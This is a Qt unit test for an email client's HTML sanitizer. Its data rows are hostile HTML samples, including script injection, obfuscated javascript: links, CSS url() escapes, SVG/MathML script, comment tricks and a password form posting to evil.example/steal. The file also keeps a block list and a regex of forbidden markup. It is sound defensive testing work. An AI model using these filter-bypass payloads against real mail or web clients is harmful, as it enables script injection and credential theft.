// SPDX-License-Identifier: GPL-3.0-or-later
// HtmlSanitizer against hostile HTML: nothing that runs, fetches or submits survives, whatever
// the spelling; what a message legitimately shows stays.
#include "gui/htmlsanitizer.h"

#include <QRegularExpression>
#include <QTest>

using Heron::Gui::HtmlSanitizer;

namespace {

// Markup that must never come out of the sanitizer, in tags or as a URL anywhere.
const QStringList kForbidden = {
        QStringLiteral("<script"), QStringLiteral("<iframe"),  QStringLiteral("<frame"),
        QStringLiteral("<object"), QStringLiteral("<embed"),   QStringLiteral("<applet"),
        QStringLiteral("<form"),   QStringLiteral("<input"),   QStringLiteral("<button"),
        QStringLiteral("<meta"),   QStringLiteral("<link"),    QStringLiteral("<base"),
        QStringLiteral("<svg"),    QStringLiteral("<math"),    QStringLiteral("<style"),
        QStringLiteral("<video"),  QStringLiteral("<audio"),   QStringLiteral("<textarea"),
        QStringLiteral("javascript:"), QStringLiteral("vbscript:"), QStringLiteral("data:text"),
        QStringLiteral("data:image/svg"), QStringLiteral("url("), QStringLiteral("@import"),
        QStringLiteral("expression("), QStringLiteral("srcset"), QStringLiteral("evil.example"),
};

// An attribute named on<something> inside a tag.
const QRegularExpression kEventHandler(QStringLiteral("<[^>]*\\son[a-z]+\\s*="),
                                       QRegularExpression::CaseInsensitiveOption);

// What in the output could run or fetch; empty when nothing.
QString unsafePart(const QString &output)
{
    const QString lower = output.toLower();
    for (const QString &forbidden : kForbidden) {
        if (lower.contains(forbidden))
            return forbidden;
    }
    const QRegularExpressionMatch handler = kEventHandler.match(output);
    return handler.hasMatch() ? handler.captured() : QString();
}

}  // namespace

class TestHtmlSanitizer : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void hostileInputIsDefused_data();
    void hostileInputIsDefused();
    void legitimateMarkupStays();
    void remoteImagesOnlyWhenAllowed();
    void everyTruncationIsSafe();
    void characterReferences_data();
    void characterReferences();
};

void TestHtmlSanitizer::hostileInputIsDefused_data()
{
    QTest::addColumn<QString>("html");
    QTest::addColumn<QString>("keptText");      // visible text that must survive
    QTest::addColumn<int>("blockedAtLeast");    // remote resources that must be counted as blocked

    const auto row = [](const char *name, const char *html, const char *kept = "", int blocked = 0) {
        QTest::newRow(name) << QString::fromUtf8(html) << QString::fromUtf8(kept) << blocked;
    };
    row("script", "<p>Hi</p><script>alert(1)</script>", "Hi");
    row("script upper case", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>ok", "ok");
    row("script never closed", "before<script>document.write('x')", "before");
    row("script end lookalike", "<script>var a='</scripts>';evil.example</script>after", "after");
    row("event handler", "<p onclick=\"alert(1)\">text</p>", "text");
    row("event handler unquoted", "<img src=cid:x onerror=alert(1)>", "");
    row("event handler on body", "<body onload='alert(1)'>body text</body>", "body text");
    row("javascript link", "<a href=\"javascript:alert(1)\">click</a>", "click");
    row("javascript link with references", "<a href=\"jav&#x61;script&colon;alert(1)\">x</a>", "x");
    row("javascript link with tab", "<a href=\"java\tscript:alert(1)\">x</a>", "x");
    row("javascript link numeric without semicolon", "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>", "x");
    row("vbscript link", "<a href='vbscript:msgbox(1)'>x</a>", "x");
    row("data html link", "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "x");
    row("remote image", "<img src=\"http://evil.example/pixel.gif\">seen", "seen", 1);
    row("remote image protocol relative", "<img src=\"//evil.example/pixel.gif\">", "", 1);
    row("srcset", "<img src=\"cid:a\" srcset=\"http://evil.example/a.png 2x\">", "", 1);
    row("css url in style attribute", "<div style=\"background:url(http://evil.example/a)\">t</div>", "t", 1);
    row("css escaped url", "<div style=\"background:u\\72l(http://evil.example/a)\">t</div>", "t", 1);
    row("css import in style element", "<style>@import 'http://evil.example/a.css';</style>t", "t");
    row("css expression", "<p style=\"width:expression(alert(1))\">t</p>", "t");
    row("css comment trick", "<p style=\"background:u/**/rl(http://evil.example/a)\">t</p>", "t", 1);
    row("background attribute", "<table background=\"http://evil.example/bg.png\"><tr><td>cell</td></tr></table>",
        "cell", 1);
    row("iframe", "<iframe src=\"http://evil.example/\">inner</iframe>outside", "outside");
    row("frameset", "<frameset><frame src=\"http://evil.example/\"></frameset>", "");
    row("object and embed", "<object data=\"http://evil.example/x.swf\"><embed src=\"http://evil.example/y\">"
                            "</object>after", "after");
    row("form", "<form action=\"http://evil.example/steal\"><input name=p type=password>"
                "<button formaction=\"http://evil.example/\">Send</button></form>", "Send");
    row("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">text", "text");
    row("base href", "<base href=\"http://evil.example/\"><a href=\"x\">rel</a>", "rel");
    row("link stylesheet", "<link rel=stylesheet href=\"http://evil.example/s.css\">t", "t", 1);
    row("svg with script", "<svg><script>alert(1)</script><a xlink:href=\"javascript:x\">s</a></svg>after",
        "after");
    row("svg image", "<svg><image href=\"http://evil.example/i.png\"/></svg>", "");
    row("math", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>ok", "ok");
    row("svg data image", "<img src=\"data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=\">", "");
    row("comment hiding markup", "<!--><script>alert(1)</script>-->shown", "shown");
    row("conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->shown", "shown");
    row("nested svg depth", "<svg><svg><svg></svg></svg><p>inside</p></svg>outside", "outside");
    row("attribute breaking out", "<p title='\"><script>alert(1)</script>'>t</p>", "t");
    row("unclosed tag at end", "text<img src=\"http://evil.example/a\"", "text");
    row("video poster", "<video poster=\"http://evil.example/p.png\"><source src=x></video>after", "after", 1);
    row("noscript", "<noscript><img src=\"http://evil.example/n.png\"></noscript>after", "after");
    row("audio", "<audio src=\"http://evil.example/a.mp3\" autoplay></audio>ok", "ok");
}

void TestHtmlSanitizer::hostileInputIsDefused()
{
    QFETCH(QString, html);
    QFETCH(QString, keptText);
    QFETCH(int, blockedAtLeast);

    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
    const QString lower = result.html.toLower();
    QVERIFY2(unsafePart(result.html).isEmpty(), qPrintable(unsafePart(result.html) + QStringLiteral(" in: ") + result.html));
    QVERIFY2(!lower.contains(QStringLiteral("http://")) && !lower.contains(QStringLiteral("//evil")),
             qPrintable(result.html));
    if (!keptText.isEmpty())
        QVERIFY2(result.html.contains(keptText), qPrintable(result.html));
    QVERIFY2(result.blockedRemoteResources >= blockedAtLeast,
             qPrintable(QStringLiteral("%1 blocked in %2").arg(result.blockedRemoteResources).arg(html)));
    // Idempotent: sanitizing the output changes nothing.
    QCOMPARE(HtmlSanitizer::sanitize(result.html).html, result.html);
}

void TestHtmlSanitizer::legitimateMarkupStays()
{
    const QString html = QStringLiteral(
            "<html><head><title>T</title></head><body bgcolor=\"#ffffff\">"
            "<p style=\"color: red; font-weight: bold\">Hello <b>World</b> &amp; friends</p>"
            "<a href=\"https://example.org/path?a=1&amp;b=2\">site</a> <a href=\"mailto:bob@example.org\">mail</a>"
            "<table border=1><tr><td colspan=2>cell</td></tr></table>"
            "<img src=\"cid:logo@example.org\" alt=\"Logo\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
            "<ul><li>one<li>two</ul>1 &lt; 2</body></html>");
    const HtmlSanitizer::Result result = HtmlSanitizer::sanitize(html);
    QCOMPARE(result.blockedRemoteResources, 0);
    QCOMPARE(result.contentIds, QStringList{QStringLiteral("logo@example.org")});
    for (const QString &expected :
         {QStringLiteral("<p style=\"color: red; font-weight: bold\">Hello <b>World</b> &amp; friends</p>"),
          QStringLiteral("<a href=\"https://example.org/path?a=1&amp;b=2\">site</a>"),
          QStringLiteral("<a href=\"mailto:bob@example.org\">mail</a>"),
          QStringLiteral("<td colspan=\"2\">cell</td>"),
          QStringLiteral("<img src=\"cid:logo@example.org\" alt=\"Logo\">"),
          QStringLiteral("<img src=\"data:image/png;base64,iVBORw0KGgo=\">"), QStringLiteral("1 &lt; 2")}) {
        QVERIFY2(result.html.contains(expected), qPrintable(expected + QStringLiteral(" not in ") + result.html));
    }
    QVERIFY(!result.html.contains(QStringLiteral(">T<")));  // the title is not body text
    // Every opened element is closed.
    QCOMPARE(result.html.count(QStringLiteral("<li>")), result.html.count(QStringLiteral("</li>")));
}

void TestHtmlSanitizer::remoteImagesOnlyWhenAllowed()
{
    const QString html = QStringLiteral("<img src=\"https://images.example.org/a b.png\" alt=\"a\">text");
    const HtmlSanitizer::Result blocked = HtmlSanitizer::sanitize(html);
    QCOMPARE(blocked.blockedRemoteResources, 1);
    QVERIFY(!blocked.html.contains(QStringLiteral("images.example.org")));

    HtmlSanitizer::Options options;
    options.allowRemoteImages = true;
    const HtmlSanitizer::Result allowed = HtmlSanitizer::sanitize(html, options);
    QCOMPARE(allowed.blockedRemoteResources, 0);
    QVERIFY2(allowed.html.contains(QStringLiteral("<img src=\"https://images.example.org/a%20b.png\" alt=\"a\">")),
             qPrintable(allowed.html));
    // Allowing images allows nothing else.
    const HtmlSanitizer::Result stillSafe = HtmlSanitizer::sanitize(
            QStringLiteral("<div style=\"background:url(https://x.example/)\">t</div><iframe src=\"https://x.example/\">"
                           "</iframe>"),
            options);
    QVERIFY(!stillSafe.html.contains(QStringLiteral("x.example")));
}

// A message cut anywhere (a partial download, a broken sender) is still defused: every prefix
// of a hostile document, whatever tag, quote or reference it ends in.
void TestHtmlSanitizer::everyTruncationIsSafe()
{
    const QString html = QStringLiteral(
            "<p title='x\">y' onclick=\"alert(1)\">a</p><!-- c --><a href=\"jav&#x61;script:x\">b</a>"
            "<script>evil.example()</script><svg><a href=\"javascript:1\">s</a></svg>"
            "<img src=\"http://evil.example/i\" srcset=\"http://evil.example/j 2x\">"
            "<div style=\"background:url(http://evil.example/k)\">d</div><iframe src=//evil.example></iframe>");
    for (qsizetype length = 0; length <= html.size(); ++length) {
        const QString result = HtmlSanitizer::sanitize(html.left(length)).html;
        QVERIFY2(unsafePart(result).isEmpty(),
                 qPrintable(QStringLiteral("%1 at %2: %3").arg(unsafePart(result)).arg(length).arg(result)));
    }
}

void TestHtmlSanitizer::characterReferences_data()
{
    QTest::addColumn<QString>("input");
    QTest::addColumn<QString>("expected");
    QTest::newRow("named") << QStringLiteral("a&amp;b&lt;&gt;&quot;") << QStringLiteral("a&b<>\"");
    QTest::newRow("decimal") << QStringLiteral("&#106;&#97") << QStringLiteral("ja");
    QTest::newRow("hex") << QStringLiteral("&#x6A;&#X61;") << QStringLiteral("ja");
    QTest::newRow("colon and tab") << QStringLiteral("a&colon;b&Tab;") << QStringLiteral("a:b\t");
    QTest::newRow("unknown stays") << QStringLiteral("&bogus; & x") << QStringLiteral("&bogus; & x");
    QTest::newRow("zero and surrogate") << QStringLiteral("&#0;&#xd800;") << QStringLiteral("\ufffd\ufffd");
    QTest::newRow("too large") << QStringLiteral("&#x110000;") << QStringLiteral("\ufffd");
}

void TestHtmlSanitizer::characterReferences()
{
    QFETCH(QString, input);
    QFETCH(QString, expected);
    QCOMPARE(HtmlSanitizer::decodeCharacterReferences(input), expected);
}

QTEST_GUILESS_MAIN(TestHtmlSanitizer)
#include "tst_htmlsanitizer.moc"
